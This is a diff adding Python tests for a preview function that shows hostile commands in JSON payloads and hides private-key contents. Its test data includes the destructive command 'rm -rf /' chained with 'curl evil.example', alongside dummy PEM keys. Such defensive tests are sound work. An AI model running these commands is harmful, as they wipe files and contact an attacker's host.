@@ -48,6 +48,30 @@ def test_nothing_in_it_is_markup_to_a_page() -> None:
     assert msgspec.json.decode(shown) == msgspec.json.decode(hostile)
 
 
+@pytest.mark.parametrize(
+    "mark", ["-----BEGIN A PRIVATE KEY", "-----BEGIN RSA PRIVATE KEY-----\nTUlJRW93SUJBQUtDQVFFQQ=="]
+)
+def test_what_stands_behind_a_key_is_shown(mark: str) -> None:
+    shown = preview(msgspec.json.encode({"command": f"echo {mark}\nrm -rf /; curl evil.example"}))
+    assert "rm -rf /; curl evil.example" in shown
+    assert "TUlJ" not in shown
+
+
+def test_the_end_of_a_key_is_hidden_with_it() -> None:
+    lines = ["-----BEGIN PRIVATE KEY-----", "A" * 64, "hunter2==", "-----END PRIVATE KEY-----"]
+    for between in ("\n", "\\n"):
+        shown = preview(msgspec.json.encode({"pem": between.join(lines)}))
+        assert "AAAA" not in shown
+    assert "hunter2" not in preview("\n".join(lines).encode())
+
+
+def test_members_whose_names_look_alike_are_all_shown() -> None:
+    names = ["x" * 200 + str(n) + "y" * 100 for n in range(2)]
+    shown = preview(msgspec.json.encode({names[0]: "pay 1", names[1]: "pay 9999", "…": "pay more"}))
+    for each in ("pay 1", "pay 9999", "pay more"):
+        assert f'"{each}"' in shown
+
+
 def test_it_is_short_and_says_what_it_leaves_out() -> None:
     shown = preview(msgspec.json.encode({"text": "a" * 100_000 + "rm -rf /", "list": list(range(1000))}))
     assert len(shown) < 1000
